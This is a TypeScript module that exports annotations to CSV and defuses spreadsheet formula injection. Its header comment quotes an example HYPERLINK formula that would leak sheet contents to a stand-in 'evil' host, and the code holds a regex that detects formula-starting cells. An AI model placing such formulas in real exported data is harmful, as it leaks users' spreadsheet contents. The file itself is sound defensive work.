// Model → CSV, one row per annotation, for spreadsheets: RFC 4180 quoting (papaparse), CRLF at
// the end of every row, and a UTF-8 byte-order mark first, without which Excel reads UTF-8 as
// the system code page and mangles every curly quote and accented name.
//
// Formula injection. Spreadsheet programs run a cell that starts with = + - @ (or a tab or CR)
// as a formula, and the text in these cells comes from documents and notes anyone may have
// written: `=HYPERLINK("https://evil/?"&A1, "source")` in a web article would leak the sheet
// when clicked. By default such cells are defused the way OWASP recommends, with a leading `'`,
// which spreadsheets hide but other readers see: a quote "@ZMnatsakanyan" reads
// "'@ZMnatsakanyan". The CSV is for people; programs should read the dataset or JSONL exports,
// whose quotes are exact, or ask for `defuseFormulas: false`.

import Papa from 'papaparse';
import type { Annotation } from '../../model/annotation.ts';
import { pageOf } from '../../model/pages.ts';
import type { DatasetModel } from '../dataset/index.ts';

export const CSV_COLUMNS = [
  'document_id',
  'document_title',
  'label',
  // The label's name in the library that exported it (issue 11): a reader of the sheet sees
  // "Location", not only the id an analyst's label was given.
  'label_name',
  'start',
  'end',
  // The page the span starts on, for a document imported from PDF; empty for others.
  'page',
  'quote',
  'annotator_id',
  'annotator_name',
  'note',
  'created_at',
  'updated_at',
] as const;

export interface CsvExportOptions {
  /** Prefix cells a spreadsheet would run as a formula with `'` (default true). */
  defuseFormulas?: boolean;
}

/**
 * papaparse's own pattern ends in `.*$`, which misses a formula followed by a line break. Shared
 * with the claims table (app/formats/claims-table), which defuses the same way.
 */
export const FORMULA_START = /^[=+\-@\t\r]/;

/** The CSV text, BOM first: documents in the order given, each one's annotations by position. */
export function encodeCsv(model: DatasetModel, options: CsvExportOptions = {}): string {
  const titles = new Map(model.documents.map((document) => [document.id, document.title]));
  const pages = new Map(model.documents.map((document) => [document.id, document.pageStarts]));
  const order = new Map(model.documents.map((document, i) => [document.id, i]));
  const names = new Map(model.annotators.map((annotator) => [annotator.id, annotator.name]));
  const labelNames = new Map<string, string>(model.labels.map((label) => [label.id, label.name]));
  const rows = model.annotations
    .filter((annotation) => order.has(annotation.documentId))
    .sort((a, b) => order.get(a.documentId)! - order.get(b.documentId)! || byPosition(a, b))
    .map((annotation) => [
      annotation.documentId,
      titles.get(annotation.documentId)!,
      annotation.label,
      labelNames.get(annotation.label) ?? annotation.label,
      annotation.start,
      annotation.end,
      pageCell(pages.get(annotation.documentId), annotation.start),
      annotation.quote,
      annotation.annotator,
      names.get(annotation.annotator) ?? annotation.annotator,
      annotation.note,
      annotation.createdAt,
      annotation.updatedAt,
    ]);
  // Numbers are never defused: papaparse leaves number cells alone, so -1 stays -1.
  return writeSpreadsheetCsv(
    CSV_COLUMNS,
    rows,
    options.defuseFormulas === false ? false : FORMULA_START,
  );
}

function pageCell(pageStarts: readonly number[] | undefined, start: number): number | string {
  return pageStarts === undefined ? '' : pageOf(pageStarts, start);
}

/**
 * A spreadsheet may split a line on `;` or a tab (its locale's list separator) rather than `,`,
 * and an unquoted `see;=HYPERLINK(…)` then becomes a cell that starts with a formula, though
 * only the cell's first character was checked. A text cell holding any separator a locale may
 * use is therefore always quoted: quoted, it stays one cell whatever the separator.
 */
const LOCALE_SEPARATOR = /[,;\t]/;

function mayBeSplit(value: unknown): boolean {
  return typeof value === 'string' && LOCALE_SEPARATOR.test(value);
}

/**
 * A header and rows as every CSV export writes them (this one, the claims table, the entity
 * list): RFC 4180 quoting, CRLF after every row, the BOM first. `defuse` matches the cells that
 * get a leading `'`; false leaves every cell as it is.
 */
export function writeSpreadsheetCsv(
  fields: readonly string[],
  rows: readonly (readonly unknown[])[],
  defuse: RegExp | false,
): string {
  const csv = Papa.unparse(
    { fields: [...fields], data: [...rows] },
    { newline: '\r\n', escapeFormulae: defuse, quotes: mayBeSplit },
  );
  // papaparse ends the last row without a line break (but a lone header with one); RFC 4180
  // allows both, and every row ending alike is what line-oriented tools expect.
  return `\uFEFF${csv}${csv.endsWith('\r\n') ? '' : '\r\n'}`;
}

function byPosition(a: Annotation, b: Annotation): number {
  return a.start - b.start || a.end - b.end || (a.id < b.id ? -1 : a.id > b.id ? 1 : 0);
}
